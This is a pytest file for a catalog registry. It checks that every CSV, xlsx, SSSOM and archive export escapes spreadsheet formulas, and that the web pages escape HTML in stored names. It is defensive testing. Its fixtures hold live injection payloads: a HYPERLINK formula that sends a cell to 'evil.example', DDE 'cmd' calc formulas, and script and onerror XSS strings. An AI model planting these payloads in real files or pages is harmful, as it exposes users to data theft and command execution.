"""Injection through stored text: spreadsheet formulas escaped in every export a spreadsheet opens (version CSV and
xlsx, `nsi export`, the FNSI CSV archive, the review worksheet, SSSOM), and HTML escaped in every page that shows a
catalog, entry or map-set name.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from registry import auth
from registry.exports import FORMULA_STARTS, write_version
from registry.mapping import create_map_set, decide, suggest
from registry.models import CatalogCreate, MapSetCreate
from registry.web import create_app

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
SOURCE = [{"code": "L01", "display": FORMULAS[0], "attributes": {"note": FORMULAS[1]},
           "designations": [{"language": "en", "use": "synonym", "text": FORMULAS[2]}]},
          {"code": "L02", "display": FORMULAS[3] + SCRIPT},
          {"code": "L03", "display": FORMULAS[4], "attributes": {"note": FORMULAS[5]}}]
TARGET = [{"code": "T1", "display": FORMULAS[0] + " target"}, {"code": "T2", "display": SCRIPT},
          {"code": "T3", "display": FORMULAS[3]}]


def matcher(terms, target, limit=5, *, store, target_fields=None):
    """Every local term gets every target entry as a candidate, so each hostile display reaches the worksheet."""
    return [{"term": t, "candidates": [{"rank": i, "code": e["code"], "display": e["display"], "score": 90.0 - i,
                                        "reason": FORMULAS[1]} for i, e in enumerate(TARGET, 1)]} for t in terms]


@pytest.fixture
def client(sqlite_store):
    store = sqlite_store
    for slug, title, entries, oid in (("src", f"{FORMULAS[0]} {SCRIPT}", SOURCE, "1.2.3.4"),
                                      ("tgt", SCRIPT, TARGET, None)):
        store.create_catalog(CatalogCreate(slug=slug, title=title, kind="classification", oid=oid,
                                           description=SCRIPT))
        store.stage_draft(slug, "1", [dict(e) for e in entries])
        store.publish(slug, "1")
    changed = [dict(e) for e in SOURCE[:2]] + [{"code": "L03", "display": SCRIPT}, {"code": "L04", "display": SCRIPT}]
    store.stage_draft("src", "2", changed)  # a draft (its xlsx is built afresh) that the diff page compares
    create_map_set(store, MapSetCreate(slug="m", source="src@1", target="tgt", owner=SCRIPT,
                                       description=FORMULAS[0] + SCRIPT), actor="admin")
    suggest(store, "m", matcher=matcher)
    for code, target in (("L01", "T1"), ("L02", "T3")):  # decided mappings, which SSSOM exports
        decide(store, "m", code, "approve", target_code=target, revision=1, actor="root",
               comment=FORMULAS[2] + SCRIPT)
    app = create_app({"TESTING": True, "NSI_STORE": store, "NSI_RECOVER_JOBS": False, "NSI_RUN_JOBS": False})
    c = app.test_client()
    c.admin = {"Authorization": f"Bearer {auth.create_token(store, 'root', 'admin')[1]}"}
    return c


def assert_cells_safe(cells: list, what: str) -> None:
    """No text cell a spreadsheet would run as a formula; every hostile text is there, escaped (so the check saw it)."""
    texts = [c for c in cells if isinstance(c, str)]
    running = [c for c in texts if c.startswith(FORMULA_STARTS)]
    assert not running, (what, running)
    assert any(c.startswith("'=HYPERLINK") for c in texts), (what, texts[:20])


def csv_cells(text: str, delimiter: str = ",") -> list:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
            if not (row and row[0].startswith("#"))]


def xlsx_cells(data: bytes, what: str) -> list:
    book = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (what, sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("version", ["1", "2"])
def test_version_downloads_escape_formulas(client, version):
    csv_text = client.get(f"/api/v1/catalogs/src/versions/{version}/download?format=csv", headers=client.admin)
    assert csv_text.status_code == 200
    assert_cells_safe(csv_cells(csv_text.get_data(as_text=True)), "csv")
    xlsx = client.get(f"/api/v1/catalogs/src/versions/{version}/download?format=xlsx", headers=client.admin)
    assert xlsx.status_code == 200
    assert_cells_safe(xlsx_cells(xlsx.data, "xlsx"), "xlsx")


def test_nsi_export_escapes_formulas(client, tmp_path):
    """`nsi export --format csv` (its other format, jsonl, is no spreadsheet's)."""
    path = tmp_path / "out.csv"
    write_version(client.application.extensions["nsi_store"], "src", "1", "csv", path)
    assert_cells_safe(csv_cells(path.read_text(encoding="utf-8")), "nsi export")


def test_fnsi_csv_archive_escapes_formulas(client):
    r = client.get("/api/dataFiles/1.2.3.4_1_csv.zip")
    assert r.status_code == 200, r.get_data(as_text=True)
    with zipfile.ZipFile(io.BytesIO(r.data)) as z:
        text = z.read(z.namelist()[0]).decode("utf-8")
    assert_cells_safe(csv_cells(text, ";"), "fnsi csv")


def test_review_worksheets_escape_formulas(client):
    api = client.get("/api/v1/mapsets/m/worksheet.xlsx", headers=client.admin)
    assert api.status_code == 200
    assert_cells_safe(xlsx_cells(api.data, "worksheet"), "worksheet")


def test_sssom_escapes_formulas(client):
    r = client.get("/api/v1/mapsets/m/sssom", headers=client.admin)
    assert r.status_code == 200
    assert_cells_safe(csv_cells(r.get_data(as_text=True), "\t"), "sssom")


def signed_in(client):
    page = client.get("/review/login").get_data(as_text=True)
    csrf = re.search(r'name="csrf" value="([^"]+)"', page).group(1)
    secret = client.admin["Authorization"].split()[1]
    assert client.post("/review/login", data={"token": secret, "csrf": csrf}).status_code == 302
    return client


PAGES = ["/", "/review/", "/review/catalogs/src", "/review/catalogs/tgt", "/review/catalogs/src/1/entries/L02",
         "/review/catalogs/tgt/1/entries/T2", "/review/catalogs/src/diff?from=1&to=2", "/review/mapsets/m",
         "/review/mapsets/m/m/L02", "/review/mapsets/m/m/L03", "/review/mapsets/m/m/L02/history", "/api/v1/docs"]


@pytest.mark.parametrize("path", PAGES)
def test_pages_escape_html_in_names(client, path):
    r = signed_in(client).get(path, headers={"Accept": "text/html"})
    assert r.status_code == 200, (path, r.status_code)
    body = r.get_data(as_text=True)
    assert "<script>alert" not in body and "<img src=x" not in body, path
    if path != "/api/v1/docs":  # the API reference shows no stored text; it is checked for the script only
        assert "&lt;script&gt;alert(" in body, path  # the hostile name is shown, as text
